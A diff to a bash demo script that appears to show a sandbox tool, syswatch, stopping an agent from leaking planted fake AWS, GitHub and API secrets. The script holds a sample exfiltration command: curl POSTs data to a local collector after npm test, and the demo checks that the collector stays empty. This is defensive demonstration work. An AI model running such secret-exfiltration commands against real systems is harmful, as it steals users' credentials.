@@ -19,12 +19,15 @@ demo=$(mktemp -d /tmp/syswatch-demo.XXXXXX)
 account=swdemo$$
 pids=()
 finish() {
-  local pid
+  local status=$? pid
+  set +e
   for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null && wait "$pid" 2>/dev/null; done
   getent passwd "$account" >/dev/null && userdel "$account" >/dev/null 2>&1
   rm -rf "$demo"
+  exit "$status"
 }
 trap finish EXIT
+trap 'exit 143' TERM INT
 
 step "making a throw-away account with a credentials file, an ssh key and an npm project"
 chmod 755 "$demo"
@@ -80,7 +83,7 @@ attack="npm test 2>&1 | tail -20; curl -s http://127.0.0.1:$port/collect -d \"\$
 secrets=(AWS_SECRET_ACCESS_KEY="aws-secret-$$" GITHUB_TOKEN="ghp_secret$$" AGENT_API_KEY="agent-key-$$")
 as_agent() { # COMMAND...: as the account, with the secrets in the environment, in the project
   (cd "$demo/home/project" && setpriv --reuid "$account" --regid "$account" --init-groups -- \
-    env -i HOME="$demo/home" PATH="$demo/bin:$PATH" SYSWATCH_RUN_DIR="$demo/run" "${secrets[@]}" "$@")
+    env -i NO_UPDATE_NOTIFIER=1 HOME="$demo/home" PATH="$demo/bin:$PATH" SYSWATCH_RUN_DIR="$demo/run" "${secrets[@]}" "$@")
 }
 claim() { # TEXT CONDITION...
   local text=$1
@@ -108,7 +111,8 @@ SYSWATCH_RUN_DIR=$demo/run "$demo/bin/syswatch" doctor | sed 's/^/   | /' || tru
 
 run=(syswatch run --profile demo/agent --)
 step "the same under: syswatch run --profile demo/agent -- node agent.js ..."
-as_agent "${run[@]}" node "$demo/home/agent.js" "$attack" 2>&1 | tee "$demo/guarded.out" | sed 's/^/   | /'
+as_agent "${run[@]}" node "$demo/home/agent.js" "$attack" 2>&1 | tee "$demo/guarded.out" | sed 's/^/   | /' ||
+  note "the agent ended with an error: curl was refused"
 claim "the test output appears" holds 'pass 1' "$demo/guarded.out"
 claim "the collector got nothing" test ! -s "$demo/stolen"
 claim "the agent still has its key" holds "my own key is agent-key-$$" "$demo/guarded.out"
